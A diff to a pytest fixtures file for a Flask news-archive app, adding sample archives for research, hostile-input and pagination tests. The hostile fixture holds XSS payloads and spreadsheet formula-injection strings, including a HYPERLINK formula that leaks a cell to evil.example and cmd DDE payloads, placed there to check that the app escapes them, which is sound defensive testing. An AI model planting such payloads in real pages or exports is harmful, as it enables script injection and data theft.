@@ -126,3 +126,175 @@ def web_app(web_instance: InstancePaths) -> Iterator[Flask]:
 @pytest.fixture
 def web_client(web_app: Flask) -> FlaskClient:
     return web_app.test_client()
+
+
+# --- a research archive: the examples plus stories, languages and months ------------------------
+
+EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
+TRAM_BODY = (
+    "Tram drivers in Northport will stop work for two days from Monday after talks over "
+    "rosters and overtime pay broke down late on Friday evening. The drivers' union said "
+    "the operator had refused to discuss the length of night rosters, and that members had "
+    "voted by a large majority to walk out. The operator said replacement buses would run "
+    "on the busiest routes but warned passengers to expect long queues at the main stops.")
+# One story in three outlets: the copies differ a little, as syndicated copies do.
+TRAM_COPIES = [
+    {"title": "Tram drivers to strike for two days", "body": TRAM_BODY,
+     "outlet": "Harbor Courier", "date": "2022-03-02"},
+    {"title": "Northport tram drivers announce two-day walkout",
+     "body": "NORTHPORT - " + TRAM_BODY, "outlet": "Northern Wire", "date": "2022-03-03"},
+    {"title": "Tram strike: drivers walk out on Monday",
+     "body": TRAM_BODY + " The city council urged both sides to return to talks.",
+     "outlet": "Daily Lantern", "date": "2022-03-05"},
+]
+# Short, different texts about one subject across months: months to drill into.
+DREDGING = [
+    ("2022-01-10", "Harbor Courier", "Dredging of the outer channel begins in January."),
+    ("2022-03-15", "Northern Wire", "Dredging crews reach the inner basin ahead of plan."),
+    ("2022-03-20", "Daily Lantern", "Residents complain about dredging noise at night."),
+    ("2022-06-01", "Harbor Courier", "The dredging contract is extended into the summer."),
+    ("2022-11-30", "Northern Wire", "Dredging finishes and the channel reopens to ships."),
+    ("2023-02-14", "Daily Lantern", "An audit questions the cost of last year's dredging."),
+]
+LANGUAGE_RECORDS = [
+    {"title": "Les conducteurs de tram en grève", "language": "fr", "outlet": "Courrier",
+     "date": "2022-03-04", "body": "Les conducteurs de tram de Northport cesseront le travail "
+     "pendant deux jours à partir de lundi, après l'échec des négociations sur les horaires."},
+    {"title": "Straßenbahnfahrer streiken zwei Tage", "language": "de", "outlet": "Kurier",
+     "date": "2022-03-06", "body": "Die Straßenbahnfahrer in Northport legen ab Montag für "
+     "zwei Tage die Arbeit nieder, nachdem die Gespräche über Dienstpläne gescheitert sind."},
+]
+
+
+def research_records() -> list[dict[str, str]]:
+    records = [*TRAM_COPIES, *LANGUAGE_RECORDS]
+    for date, outlet, sentence in DREDGING:
+        records.append({"title": f"Harbour dredging update {date}", "body": sentence,
+                        "outlet": outlet, "date": date, "language": "en"})
+    return records
+
+
+def build_research_archive(root: Path) -> InstancePaths:
+    """The examples folder (with its syndicated dock strike) and the records above."""
+    paths = resolve_instance(root / "instance")
+    feed = root / "inputs" / "research.jsonl"
+    feed.parent.mkdir(parents=True, exist_ok=True)
+    feed.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n"
+                            for r in research_records()), encoding="utf-8")
+    with Archive(paths) as archive, archive.writing():
+        summary = ingest(archive, [str(EXAMPLES), str(feed)])
+    assert summary.ok, summary
+    return paths
+
+
+# --- a hostile archive: markup, script URLs, broken entities and spreadsheet formulas ----------
+
+HOSTILE_TITLE = '<script>alert("t")</script><img src=x onerror=alert(1)> Tide tables'
+FORMULA_TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Tide report")',
+                  '+cmd|" /C calc"!A0 tide', '@SUM(1+1)*cmd|" /C calc"!A0 tide',
+                  '-2+3+cmd|" /C calc"!A0 tide']
+HOSTILE_RECORDS: list[dict[str, str]] = [
+    {"title": HOSTILE_TITLE, "outlet": '<b onmouseover=alert(6)>Evil Outlet</b>',
+     "byline": "<script>alert(7)</script>", "url": "javascript:alert(5)", "date": "2023-05-01",
+     "body": 'The tide <svg onload=alert(2)> rose. <a href="javascript:alert(3)">click</a> '
+             '<iframe src="javascript:alert(4)"></iframe> &amp &lt;b&gt; &#x; &#0; ]]> '
+             '</title></textarea><!-- --> "quotes" \'apostrophes\' tide tables again.'},
+    {"title": "Tide gauge reads \x0b odd values", "url": " JaVaScRiPt:alert(8)",
+     "outlet": "Harbor Courier", "date": "2023-05-02",
+     "body": "=1+2 The tide gauge \x0b on the pier reported odd values all week."},
+    {"title": "Tide data as a page", "url": "data:text/html,<script>alert(10)</script>",
+     "outlet": "Harbor Courier", "date": "2023-05-03",
+     "body": "Tide data <img src=x onerror=alert(11)> was published as a web page."},
+    *({"title": title, "outlet": "Northern Wire", "date": f"2023-05-{4 + n:02d}",
+       "url": "https://news.example/tide", "body": f"{title} The tide report number {n}."}
+      for n, title in enumerate(FORMULA_TITLES)),
+]
+# A whole-page text dump: its menu lines hold markup that the extraction view must show inert.
+HOSTILE_DUMP = "\n".join([
+    "<script>alert('menu')</script> Home",
+    "News <img src=x onerror=alert('nav')>",
+    "Sport",
+    "",
+    "Harbour tide tables printed wrong for a week",
+    "",
+    "By <b onclick=alert('by')>Ada Reed</b>",
+    "3 May 2023",
+    "",
+    "The tide tables printed in the harbour office were wrong for a whole week, the "
+    "harbour master said on Wednesday, after a software update shifted every time by an hour.",
+    "",
+    "Boat owners who relied on them said two vessels touched the bottom at the harbour "
+    "mouth <script>alert('body')</script> before the error was found and fixed.",
+    "",
+    "Share <a href=javascript:alert('share')>Facebook</a>",
+    "© 2023 The Harbour Post",
+])
+
+
+def build_hostile_archive(root: Path) -> InstancePaths:
+    paths = resolve_instance(root / "instance")
+    folder = root / "inputs"
+    folder.mkdir(parents=True, exist_ok=True)
+    feed = folder / "hostile.jsonl"
+    feed.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE_RECORDS), encoding="utf-8")
+    dump = folder / "harbour-post-tide.txt"
+    dump.write_text(HOSTILE_DUMP, encoding="utf-8")
+    page = folder / "hostile.html"
+    page.write_bytes(RAW_HTML.replace(b"quay", b"tide quay"))
+    with Archive(paths) as archive, archive.writing():
+        summary = ingest(archive, [str(feed), str(dump), str(page)])
+    assert summary.ok and summary.added == len(HOSTILE_RECORDS) + 2, summary
+    return paths
+
+
+# --- a large archive, for pagination deep into a result set --------------------------------------
+
+BIG_COUNT = 1_234
+_TOPICS = ("budget", "bridge", "housing", "rail", "water", "school", "energy", "court")
+
+
+def build_big_archive(root: Path, count: int = BIG_COUNT) -> InstancePaths:
+    """`count` short reports, all matching "report", some dated alike (ties to order)."""
+    paths = resolve_instance(root / "instance")
+    feed = root / "inputs" / "big.jsonl"
+    feed.parent.mkdir(parents=True, exist_ok=True)
+    with feed.open("w", encoding="utf-8") as out:
+        for n in range(count):
+            topic, other = _TOPICS[n % 8], _TOPICS[(n // 8) % 8]
+            record = {"title": f"Report {n} on {topic}",
+                      "body": f"Report number {n} covers the {topic} and the {other}. "
+                              f"Marker item{n} keeps each text apart.",
+                      "outlet": f"Outlet {n % 5}", "date": f"{2010 + n % 12}-{n % 12 + 1:02d}-"
+                                                          f"{n % 27 + 1:02d}"}
+            if n % 50 == 0:
+                del record["date"]  # some undated, which sort last
+            out.write(json.dumps(record) + "\n")
+    with Archive(paths) as archive, archive.writing():
+        summary = ingest(archive, [str(feed)])
+    assert summary.ok and summary.added == count, summary
+    return paths
+
+
+def _app(paths: InstancePaths) -> Flask:
+    return create_app({"ARCHIVE_INSTANCE": paths, "TESTING": True})
+
+
+@pytest.fixture(scope="module")
+def research_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
+    app = _app(build_research_archive(tmp_path_factory.mktemp("research")))
+    yield app.test_client()
+    close_app(app)
+
+
+@pytest.fixture(scope="module")
+def hostile_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
+    app = _app(build_hostile_archive(tmp_path_factory.mktemp("hostile")))
+    yield app.test_client()
+    close_app(app)
+
+
+@pytest.fixture(scope="module")
+def big_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
+    app = _app(build_big_archive(tmp_path_factory.mktemp("big")))
+    yield app.test_client()
+    close_app(app)
